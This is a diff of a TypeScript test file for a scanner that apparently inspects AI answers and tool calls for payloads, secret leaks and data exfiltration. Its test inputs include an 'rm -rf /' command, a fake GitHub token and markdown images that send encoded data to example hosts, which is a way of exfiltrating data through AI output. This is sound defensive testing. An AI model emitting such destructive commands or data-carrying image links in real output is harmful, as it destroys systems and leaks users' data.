@@ -5,9 +5,11 @@ import { ReportBuilder } from '../../report/model.js';
 const scanner = createScanner();
 const scan = (kind: 'output' | 'tool-call' | 'document', text: string) => scanner.scan(textArtifact(kind, text));
 const rules = async (kind: 'output' | 'tool-call' | 'document', text: string) =>
-  (await scan(kind, text)).findings.filter(({ severity }) => severity !== 'low').map(({ rule }) => rule);
+  (await scan(kind, text)).findings
+    .filter(({ severity }) => severity !== 'low')
+    .map(({ rule, variant }) => variant ?? rule);
 const call = (args: object) => scanner.scan(jsonArtifact('tool-call', { name: 'do_it', arguments: args }));
-const callRules = async (args: object) => (await call(args)).findings.map(({ rule }) => rule);
+const callRules = async (args: object) => (await call(args)).findings.map(({ rule, variant }) => variant ?? rule);
 
 /** Put together here, so that nobody's scanner takes this file for a leak. */
 const TOKEN = `gh${'p_'}k3Q9wLmT7xR2vYbN5cJ8pD1sF6gH4aZ0oUiE`;
@@ -55,11 +57,9 @@ describe('code in an answer', () => {
     const { findings } = await createScanner({ policy }).scan(
       textArtifact('output', `rm -rf / ${TOKEN} ![x](https://a.example/?d=${ENCODED})`),
     );
-    expect(findings.filter((finding) => finding.scanner === 'output-payload').map(({ rule }) => rule)).toEqual([
-      'exfiltration/encoded-in-image',
-      'leak/secret',
-      'exfiltration/foreign-image',
-    ]);
+    expect(
+      findings.filter((finding) => finding.scanner === 'output-payload').map(({ rule, variant }) => variant ?? rule),
+    ).toEqual(['exfiltration/encoded-in-image', 'leak/secret']);
   });
 
   it('may be expected of some only', async () => {
@@ -89,7 +89,7 @@ describe('data on its way out', () => {
   it('is seen in an image at the address', async () => {
     const text = `All done. ![ok](https://img.example/p.png?d=${ENCODED})`;
     const { findings, decision } = await scan('output', text);
-    expect(findings[0]).toMatchObject({ rule: 'exfiltration/encoded-in-image', severity: 'critical' });
+    expect(findings[0]).toMatchObject({ variant: 'exfiltration/encoded-in-image', severity: 'critical' });
     expect(text.slice(...findings[0]!.span)).toBe(`https://img.example/p.png?d=${ENCODED}`);
     expect(decision.action).toBe('incident');
   });
